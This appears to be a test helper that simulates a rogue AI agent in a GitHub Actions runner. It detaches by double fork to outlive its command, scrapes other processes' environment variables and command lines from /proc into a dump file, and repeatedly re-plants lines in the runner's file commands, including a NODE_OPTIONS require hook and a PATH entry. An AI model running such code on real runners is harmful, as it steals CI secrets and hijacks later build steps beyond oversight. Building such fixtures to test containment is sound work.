"""What a hostile agent leaves running: `leftover_watcher.py OUT` detaches (double fork, new
session, its output away from the command's pipes) and returns at once; the process it
leaves then, for up to two minutes:

- copies every `/proc/<pid>/environ` and `cmdline` it can read (each process once per
  start, git's again on every scan) into `OUT/dump`, waiting for amelia's push;
- keeps its own lines in the runner's file commands (`GITHUB_ENV`, `GITHUB_PATH`,
  `GITHUB_OUTPUT`, `GITHUB_STEP_SUMMARY`, `GITHUB_STATE`), adding them again whenever
  they are gone, as code that later steps would run;
- writes its own environment to `OUT/own-environ`, its pid to `OUT/pid` and counts its
  scans in `OUT/scans`.

The runner's file paths come from its command line (`name=path` pairs), as an agent finds
them under `/github/file_commands` without the variables.
"""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

LINES = {
    "GITHUB_ENV": b"NODE_OPTIONS=--require /tmp/agent-hook.js\n",
    "GITHUB_PATH": b"/tmp/agent-bin\n",
    "GITHUB_OUTPUT": b"branch=agent-chosen\n",
    "GITHUB_STEP_SUMMARY": b"agent-written summary\n",
    "GITHUB_STATE": b"agent_state=1\n",
}


def _detach() -> int:
    """Double fork into a new session; the command returns once the process left behind
    says it has scanned once (through the descriptor returned)."""
    ready, told = os.pipe()
    if os.fork():
        os.close(told)
        os.read(ready, 1)
        os._exit(0)
    os.close(ready)
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    return told


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def _plant(files: dict[str, str]) -> None:
    for name, path in files.items():
        line = LINES[name]
        if line not in _read(path):
            try:
                with open(path, "ab") as handle:
                    handle.write(line)
            except OSError:
                pass


def main() -> None:
    out = Path(sys.argv[1])
    files = dict(argument.split("=", 1) for argument in sys.argv[2:])
    (out / "own-environ").write_bytes(_read("/proc/self/environ"))
    _plant(files)
    told = _detach()
    (out / "pid").write_text(str(os.getpid()))
    seen: set[tuple[str, bytes]] = set()
    scans = 0
    deadline = time.monotonic() + 120
    with (out / "dump").open("ab") as dump:
        while time.monotonic() < deadline:
            for pid in os.listdir("/proc"):
                if not pid.isdigit() or pid == str(os.getpid()):
                    continue
                cmdline = _read(f"/proc/{pid}/cmdline")
                start = _read(f"/proc/{pid}/stat").rsplit(b")", 1)[-1].split()[19:20]
                key = (pid, b"".join(start))
                program = os.path.basename(cmdline.split(b"\0", 1)[0])
                if key in seen and not program.startswith(b"git"):
                    continue
                seen.add(key)
                environ = _read(f"/proc/{pid}/environ")
                dump.write(b"\n=== " + pid.encode() + b"\n" + cmdline + b"\n" + environ)
            dump.flush()
            _plant(files)
            scans += 1
            (out / "scans").write_text(str(scans))
            if told >= 0:
                os.write(told, b"x")
                os.close(told)
                told = -1
            time.sleep(0.002)


if __name__ == "__main__":
    main()
